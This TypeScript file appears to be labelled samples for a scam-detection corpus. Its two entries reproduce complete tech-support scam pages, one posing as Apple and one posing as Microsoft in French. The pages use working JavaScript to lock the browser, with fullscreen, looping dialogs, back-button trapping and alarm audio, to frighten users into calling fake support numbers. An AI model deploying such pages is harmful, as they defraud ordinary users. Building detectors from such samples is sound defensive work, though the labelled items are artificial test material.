import type { Entry } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Browser-locker support scams: fullscreen, looping dialogs, a phone number.
const raw = String.raw;
const js = (body: string): Route => ({ status: 200, headers: { 'content-type': 'application/javascript; charset=utf-8' }, body });
const json = (v: unknown): Route => ({ status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify(v) });

export const entries: Entry[] = [
  {
    id: 'c-techsupport-apple-safari',
    label: 'scam',
    kind: 'tech-support',
    url: 'https://apple-ios-security.support-alert-center.com/warning/?model=mac',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Apple Security Alert</title>
<style>body{margin:0;background:#f5f5f7;font-family:-apple-system,Helvetica,sans-serif}.bar{background:#1d1d1f;color:#fff;padding:8px;text-align:center;font-size:13px}.wn{max-width:560px;margin:8vh auto;background:#fff;border-radius:14px;box-shadow:0 10px 40px #0003;overflow:hidden}.wn .hd{background:#ff3b30;color:#fff;padding:16px 22px;font-weight:600}.wn .bd{padding:22px}.call{display:block;text-align:center;background:#0071e3;color:#fff;border-radius:10px;padding:14px;font-size:20px;font-weight:700;text-decoration:none;margin-top:14px}.tm{font-size:30px;color:#ff3b30;text-align:center;font-variant-numeric:tabular-nums}</style></head>
<body><div class="bar">Apple Support &nbsp;|&nbsp; Call <span class="n"></span></div>
<div class="wn"><div class="hd">&#9888;&#65039; Your <span id="dev">Mac</span> is infected with 3 viruses</div><div class="bd">
<p>Our security check found traces of <b>2 malware</b> and <b>1 spyware</b>. System damage: 28.1% – Immediate removal required!</p>
<p>The immediate removal of the viruses is required to prevent further system damage, loss of Apps, Photos or other files. Traces of 1 spyware were found on your device. Personal and banking information is at risk.</p>
<div class="tm" id="tm">04:59</div><p style="text-align:center;font-size:13px">until your Apple ID is suspended</p>
<a class="call n2" id="call" href="#">Call Apple Support</a></div></div>
<script>
(function () {
  var phone = '1-844-916-0427';
  var dev = /iPhone/.test(navigator.userAgent) ? 'iPhone' : /iPad/.test(navigator.userAgent) ? 'iPad' : 'Mac';
  document.getElementById('dev').textContent = dev;
  document.querySelectorAll('.n').forEach(function (e) { e.textContent = phone; });
  var c = document.getElementById('call'); c.href = 'tel:' + phone.replace(/\D/g, ''); c.textContent = 'Call Apple Support: ' + phone;
  var t = 299;
  setInterval(function () { if (t > 0) t--; document.getElementById('tm').textContent = ('0' + Math.floor(t / 60)).slice(-2) + ':' + ('0' + t % 60).slice(-2); }, 1000);
  var warned = 0;
  function pop() { if (warned++ > 20) return; if (!confirm('Apple Security Warning\n\nYour ' + dev + ' has been compromised. Call ' + phone + ' to speak to a certified Apple technician.\n\nPress OK to call now.')) pop(); else location.href = 'tel:' + phone.replace(/\D/g, ''); }
  document.addEventListener('mousedown', function () { document.documentElement.requestFullscreen && document.documentElement.requestFullscreen().catch(function () {}); }, { once: false });
  for (var i = 0; i < 40; i++) history.pushState({ i: i }, '', location.pathname + location.search + '#w' + i);
  addEventListener('popstate', pop);
  setTimeout(pop, 2000);
})();
</script></body></html>`,
  },
  {
    id: 'c-techsupport-json-fr',
    label: 'scam',
    kind: 'tech-support',
    url: 'https://support-microsoft-assistance.fr.ms-alerte.com/erreur/',
    body: raw`<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>…</title>
<style>body{margin:0;background:#000;color:#fff;font-family:Segoe UI,Arial,sans-serif;user-select:none}#w{position:fixed;inset:0;display:flex;align-items:center;justify-content:center}.b{background:#fff;color:#111;width:640px;border:1px solid #888}.b .t{background:#c00;color:#fff;padding:10px 14px;font-weight:600}.b .c{padding:20px}.b .p{font-size:26px;font-weight:700;text-align:center;color:#c00;margin:12px 0}</style></head>
<body><div id="w"></div><audio id="au" loop></audio>
<script src="/erreur/app.js"></script></body></html>`,
    routes: {
      'support-microsoft-assistance.fr.ms-alerte.com/erreur/app.js': js(raw`fetch('/erreur/cfg?lang='+(navigator.language||'fr')).then(function(r){return r.json()}).then(function(c){
  document.title=c.title;
  document.getElementById('w').innerHTML='<div class="b"><div class="t">'+c.head+'</div><div class="c">'+c.body.map(function(p){return '<p>'+p+'</p>'}).join('')+'<div class="p">'+c.tel+'</div><p style="font-size:12px">'+c.foot+'</p></div></div>';
  var au=document.getElementById('au');au.src=c.sound;
  function lock(){au.play().catch(function(){});var e=document.documentElement;if(!document.fullscreenElement&&e.requestFullscreen)e.requestFullscreen().catch(function(){})}
  ['click','keydown','mousemove'].forEach(function(ev){document.addEventListener(ev,lock)});
  document.addEventListener('contextmenu',function(e){e.preventDefault()});
  window.addEventListener('beforeunload',function(e){e.preventDefault();e.returnValue=c.leave});
  var n=0;(function again(){if(n++<c.loops){alert(c.alert.replace('{tel}',c.tel));setTimeout(again,c.every)}})();
});`),
      'support-microsoft-assistance.fr.ms-alerte.com/erreur/cfg': json({
        title: 'Alerte de sécurité Windows', head: 'Pare-feu Windows Defender – Alerte de sécurité', tel: '09 70 73 41 28',
        body: ['<b>Accès à cet ordinateur bloqué pour des raisons de sécurité.</b>', 'Votre ordinateur nous a signalé qu\u2019il a été infecté par un logiciel espion de type cheval de Troie. Les données suivantes sont menacées : identifiants de messagerie, mots de passe bancaires, identifiants Facebook, photos et documents.', 'Veuillez contacter immédiatement le support technique Microsoft pour qu\u2019un technicien vous guide à distance.'],
        foot: 'Ne redémarrez pas votre ordinateur. Cela pourrait entraîner une perte de données.',
        alert: 'ALERTE VIRUS DE MICROSOFT\n\nCet ordinateur est BLOQUÉ\n\nCode d\u2019erreur : #DW6VB36\n\nVeuillez appeler le {tel}', leave: 'Votre ordinateur est en danger.', loops: 30, every: 3500, sound: '/erreur/alarm.mp3',
      }),
    },
  },
];
